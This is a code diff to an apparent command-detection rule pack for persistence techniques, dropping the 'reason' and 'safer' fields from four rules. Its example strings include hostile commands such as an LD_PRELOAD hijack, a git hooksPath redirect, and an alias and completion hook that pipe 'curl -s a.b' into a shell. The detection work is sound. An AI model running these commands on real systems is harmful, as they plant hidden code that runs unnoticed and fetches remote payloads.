@@ -13,8 +13,6 @@ export const persistence = definePack('persistence', () => [
       { program: ['schtasks'], words: ['/create|/change|/delete'] },
     ],
     about: 'operands',
-    reason: 'makes commands run later, when nobody looks',
-    safer: 'crontab -l',
     examples: {
       matches: ['crontab jobs.txt', "echo '* * * * * x' | crontab -", 'launchctl load x.plist'],
       not: ['crontab -l', 'atq', 'systemctl list-timers'],
@@ -42,8 +40,6 @@ export const persistence = definePack('persistence', () => [
         ],
       },
     ],
-    reason: 'makes other programs load code that is not theirs',
-    safer: 'env',
     examples: {
       matches: [
         'export LD_PRELOAD=/tmp/x.so',
@@ -91,8 +87,6 @@ export const persistence = definePack('persistence', () => [
       },
     ],
     about: 'operands',
-    reason: 'makes git run or trust something else from now on',
-    safer: 'git config --list',
     examples: {
       matches: [
         'git config --global core.hooksPath /tmp/hooks',
@@ -120,8 +114,6 @@ export const persistence = definePack('persistence', () => [
       { program: ['enable'], has: ['-f'] },
       { program: ['hash'], has: ['-p'] },
     ],
-    reason: 'plants code that runs when somebody does something else',
-    safer: 'alias',
     examples: {
       matches: ['bind -x \'"\\C-l": "/tmp/b.sh"\'', "alias ls='curl -s a.b | sh; ls'", "complete -C 'curl -s a.b' ssh"],
       not: ["alias ll='ls -la'", 'complete -W "a b" x', 'bind -p'],
